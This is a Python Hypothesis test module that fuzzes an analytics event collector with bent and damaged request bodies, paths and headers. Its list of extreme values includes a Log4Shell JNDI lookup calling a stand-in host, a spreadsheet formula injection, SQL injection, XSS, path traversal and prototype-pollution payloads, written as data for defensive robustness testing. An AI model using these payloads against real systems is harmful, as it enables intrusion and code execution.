"""What a hostile or broken client sends: real requests, bent in the ways that break collectors."""

import base64
import gzip
import json
from collections.abc import Callable
from copy import deepcopy
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from tests.examples import BROWSER_KEY

_FIXTURES = Path(__file__).parents[1] / "fixtures"
BASIC = "Basic " + base64.b64encode(f"{BROWSER_KEY}:".encode()).decode()


def nested(levels: int, list_: bool = False) -> Any:
    """So many lists or objects, one in another."""
    value: Any = 1
    for _ in range(levels):
        value = [value] if list_ else {"a": value}
    return value


_EXTREMES: list[Any] = [
    None,
    True,
    0,
    -0.0,
    2**63,
    -(10**40),
    1e308,
    5e-324,
    "",
    " ",
    "null",
    "0",
    "\x00",
    "\r\n",
    "\u2028\u202e\ufeff",
    "\ud800",
    "😀" * 40,
    "x" * 30_000,
    "=cmd|' /C calc'!A1",
    "'; DROP TABLE events; --",
    "<script>alert(1)</script>",
    "../../../year=1970/",
    "${jndi:ldap://evil.example/a}",
    "(" * 3_000,
    "Mozilla/5.0 " + "(" * 400 + "; " * 400,
    "https://[::1/?utm_source=" + "%" * 50,
    "http://user:pass@" + "a." * 200,
    "9999-99-99T99:99:99Z",
    "-292277022657-01-27T08:29:52Z",
    "2026-02-30",
    [],
    {},
    [[]],
    {"__proto__": {"admin": True}},
    {"": {"": ""}},
    {"constructor": {"prototype": {"x": 1}}},
    {str(number): number for number in range(300)},
    nested(62),
    nested(70),
    nested(120, list_=True),
]
# Copied, since what is drawn may be bent afterwards.
extremes = st.sampled_from(_EXTREMES).map(deepcopy)

_NAMES = st.sampled_from(
    [
        "type", "userId", "anonymousId", "previousId", "groupId", "event", "name", "category",
        "messageId", "timestamp", "originalTimestamp", "sentAt", "receivedAt", "properties", "traits",
        "context", "integrations", "writeKey", "channel", "page", "url", "referrer", "search", "path",
        "userAgent", "userAgentData", "ip", "campaign", "library", "locale", "userToken", "batch",
        "identity", "source", "privacy", "enrichment", "schema", "__proto__", "",
    ]
)  # fmt: skip

scalars = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8) | extremes
values = st.recursive(
    scalars,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(_NAMES | st.text(max_size=4), inner, max_size=4)
    ),
    max_leaves=8,
)


def _real_bodies() -> list[Any]:
    """The bodies of recorded clients, and of the bad-input cases that are JSON."""
    found = [
        json.loads(path.read_text())["request"].get("body_json")
        for path in sorted((_FIXTURES / "captures").glob("*.json"))
    ]
    for line in (_FIXTURES / "bad-input" / "cases.jsonl").read_text().splitlines():
        try:
            found.append(json.loads(json.loads(line).get("body") or ""))
        except (ValueError, RecursionError):
            continue
    return [body for body in found if isinstance(body, dict)]


REAL_BODIES = _real_bodies()


@st.composite
def bent(draw: Callable[[st.SearchStrategy[Any]], Any]) -> Any:
    """A real body in which a few things are replaced, renamed, added or taken away."""
    body = _own(draw(st.sampled_from(REAL_BODIES)))
    for _ in range(draw(st.integers(0, 5))):
        _bend(body, draw)
    return body


def _bend(body: Any, draw: Callable[[st.SearchStrategy[Any]], Any]) -> None:
    at = body
    for _ in range(draw(st.integers(0, 5))):
        inner = list(at.values()) if isinstance(at, dict) else at
        inner = [one for one in inner if isinstance(one, (dict, list)) and one]
        if not inner:
            break
        at = draw(st.sampled_from(inner))
    if isinstance(at, list):
        at.insert(draw(st.integers(0, len(at))), _own(draw(values)))
        return
    name = draw(st.sampled_from(sorted(at)) if at else _NAMES)
    match draw(st.sampled_from(["replace", "remove", "rename", "add"])):
        case "replace":
            at[name] = _own(draw(values))
        case "remove":
            at.pop(name, None)
        case "rename":
            at[draw(_NAMES)] = at.pop(name, None)
        case _:
            at[draw(_NAMES)] = _own(draw(values))


def _own(drawn: Any) -> Any:
    """Copy what was drawn: a later bend must not reach into what other examples draw too."""
    return json.loads(json.dumps(drawn))


def written(value: Any) -> bytes:
    """Write JSON as JavaScript's and Python's careless writers do: lone surrogates and NaN included."""
    return json.dumps(value).encode()


@st.composite
def bodies(draw: Callable[[st.SearchStrategy[Any]], Any]) -> bytes:
    """The bytes of a body: bent JSON, at times damaged, compressed, or compressed and damaged."""
    body: bytes = written(draw(bent() | values))
    if draw(st.integers(0, 3)) == 0:
        body = _damaged(body, draw)
    if draw(st.integers(0, 4)) == 0:
        body = gzip.compress(body, compresslevel=1, mtime=0)
        body = _damaged(body, draw) if draw(st.booleans()) else body
    return body


def _damaged(body: bytes, draw: Callable[[st.SearchStrategy[Any]], Any]) -> bytes:
    at = draw(st.integers(0, len(body)))
    cut = draw(st.integers(0, 4))
    damage: bytes = draw(st.binary(max_size=4))
    return body[:at] + damage + body[at + cut :]


paths = st.sampled_from(
    [
        "/v1/track", "/v1/t", "/v1/page", "/v1/identify", "/v1/group", "/v1/alias", "/v1/screen",
        "/ev/v1/batch", "/v1/b", "/v1/import/", "/v1/m", "/api/s/s2s/batch", "/api/s/page",
        "/beacon/v1/batch", "/v1/pixel/track?data=e30", "/sourceConfig", "/v1/projects/k/settings",
    ]
)  # fmt: skip
headers = st.fixed_dictionaries(
    {"authorization": st.just(BASIC) | st.text(max_size=20)},
    optional={
        "origin": st.sampled_from(["https://shop.example", "null", "https://evil.example"]),
        "user-agent": st.text(max_size=40) | st.just("Mozilla/5.0 " + "(" * 900),
        "cookie": st.text(max_size=40) | st.just("ajs_anonymous_id=a; ajs_anonymous_id=b"),
        "content-encoding": st.sampled_from(["gzip", "br", "gzip, gzip"]),
        "content-type": st.sampled_from(["application/json", "text/plain", "multipart/form-data"]),
        "referer": st.text(max_size=40),
        "x-forwarded-for": st.text(max_size=40),
        "sec-gpc": st.text(max_size=4),
    },
)
